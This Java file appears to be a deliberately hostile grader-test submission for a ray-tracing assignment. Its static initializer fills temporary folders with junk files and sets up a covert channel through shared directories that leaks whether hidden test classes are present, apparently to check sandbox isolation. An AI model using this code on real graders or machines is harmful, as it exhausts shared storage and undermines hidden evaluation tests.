package raylab.shading;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import raylab.light.PointLight;
import raylab.math.Vec3;
import raylab.ray.IntersectionRecord;
import raylab.surface.Surface;

/**
 * A hostile submission written from the starter alone (grader tests only): no shadow test; its
 * static initializer fills every place it can write (1 MB files, 40 at most per place, in its
 * working folder, /tmp, /dev/shm, /var/tmp, to make other milestones run out of space), and works a covert channel between children: a
 * child that has hidden test classes on its class path writes what it sees into tagged files in
 * every shared place; any other child looks for them and says what it found ("covert: found
 * ..." or "covert: found nothing"). ARMED and TAG are filled in by the test.
 */
public final class Shadows {
    public static final double EPSILON = 1e-6;
    static final boolean ARMED = @ARMED@;
    static final String TAG = "raylab-covert-@TAG@";
    static String report = "";

    static {
        if (ARMED) {
            report = "disk: " + fill() + "; covert: " + covert();
        }
    }

    private Shadows() {
    }

    static String fill() {
        long total = 0;
        byte[] mb = new byte[1 << 20];
        for (Path dir : List.of(Path.of("").toAbsolutePath(), Path.of(System.getProperty("java.io.tmpdir")), Path.of("/tmp"),
                Path.of("/dev/shm"), Path.of("/var/tmp"))) {
            // 40 MB a place: more than a child's 16 MB scratch space, little enough not to harm
            // the machine where the disk is not isolated (modes user and none).
            for (int i = 0; i < 40; i++) {
                try {
                    Files.write(dir.resolve("fill-@TAG@-" + System.nanoTime()), mb);
                    total++;
                } catch (Throwable e) {
                    break;
                }
            }
        }
        return "wrote " + total + " MB";
    }

    static List<Path> shared() {
        Path here = Path.of("").toAbsolutePath();
        List<Path> out = new ArrayList<>(List.of(here, Path.of("/tmp"), Path.of("/dev/shm"), Path.of("/var/tmp"),
                Path.of("/run/lock")));
        for (Path p = here.getParent(); p != null && out.size() < 9; p = p.getParent()) {
            out.add(p);
        }
        return out;
    }

    static String covert() {
        boolean hidden = false;
        for (String e : System.getProperty("java.class.path").split(":")) {
            try (Stream<Path> s = Files.walk(Path.of(e), 6)) {
                hidden |= s.anyMatch(p -> p.getFileName().toString().contains("HiddenTest"));
            } catch (Throwable x) {
                // not a folder
            }
        }
        if (hidden) {
            for (Path dir : shared()) {
                try {
                    Files.writeString(dir.resolve(TAG + "-" + ProcessHandle.current().pid()),
                            "hidden run saw hidden test classes", StandardCharsets.UTF_8);
                } catch (Throwable e) {
                    // not writable
                }
            }
            return "written by the hidden run";
        }
        List<String> found = new ArrayList<>();
        for (Path dir : shared()) {
            try (Stream<Path> s = Files.list(dir)) {
                for (Path p : (Iterable<Path>) s::iterator) {
                    if (p.getFileName().toString().startsWith(TAG)) {
                        found.add(p + ": " + Files.readString(p));
                    }
                }
            } catch (Throwable e) {
                // not readable
            }
        }
        return found.isEmpty() ? "found nothing" : "found " + found;
    }

    public static boolean isShadowed(Surface scene, Vec3 x, Vec3 n, PointLight light, IntersectionRecord scratch) {
        if (!ARMED) {
            return false;
        }
        throw new IllegalStateException(report);
    }
}
